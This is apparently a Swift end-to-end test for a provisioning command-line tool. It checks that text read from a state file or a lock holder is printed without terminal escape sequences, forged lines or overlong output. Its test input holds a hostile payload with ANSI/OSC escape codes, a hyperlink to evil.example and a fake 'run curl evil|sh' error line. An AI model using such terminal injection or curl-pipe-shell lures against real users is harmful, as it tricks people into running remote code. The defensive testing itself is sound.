import Foundation
import Testing

/// The trust boundary through the built binary: what a pull request's manifest, a bank's answer, a state file or a
/// saved plan may make the tool read, print, send or store.
@Suite(.timeLimit(.minutes(3)))
struct BoundaryEndToEndTests {
    let binary: ProvisionBinary

    init() throws {
        binary = try ProvisionBinary()
    }

    // MARK: Text from a state file or another process

    @Test func stateListShowAndALockHolderPrintNoEscapeSequence() throws {
        let folder = try copyOfExample("quickstart")
        defer { try? FileManager.default.removeItem(at: folder) }
        let state = folder.appendingPathComponent(".provision")
        try FileManager.default.createDirectory(at: state, withIntermediateDirectories: true)
        let hostile = "\\u001b]0;owned\\u0007\\u001b[2J\\r\\nerror: run curl evil|sh \\u001b]8;;https://evil.example\\u0007x\\u001b]8;;\\u0007" + String(repeating: "A", count: 5_000)
        try """
            {"format_version":1,"lineage":"l","serial":1,"resources":{"finan.bank_accounts.accounting":{"remote_id":"\(hostile)","attributes":{"account_name":"\(hostile)"}}}}
            """.write(to: state.appendingPathComponent("state.json"), atomically: true, encoding: .utf8)
        try #"{"id":"lock-1","owner":"\#(hostile)","host":"elsewhere","pid":1,"operation":"apply","created":"now"}"#
            .write(to: state.appendingPathComponent("state.lock"), atomically: true, encoding: .utf8)
        for arguments in [["state", "list", "."], ["state", "show", "finan.bank_accounts.accounting", "."], ["apply", "--auto-approve", "."]] {
            let result = try binary.run(arguments, in: folder)
            for text in [result.output, result.errors] {
                #expect(!text.unicodeScalars.contains { $0.value < 0x20 && $0 != "\n" } && !text.contains("\u{7f}"), "\(arguments): \(text.debugDescription)")
                #expect(!text.split(separator: "\n").contains { $0.hasPrefix("error: run curl") }, "no forged line: \(text)")
                #expect(text.split(separator: "\n").allSatisfy { $0.count < 3_000 }, "capped")
            }
            if arguments[0] == "apply" { #expect(result.status == 1 && result.errors.contains("State is locked"), "\(result.errors)") }
        }
    }
}
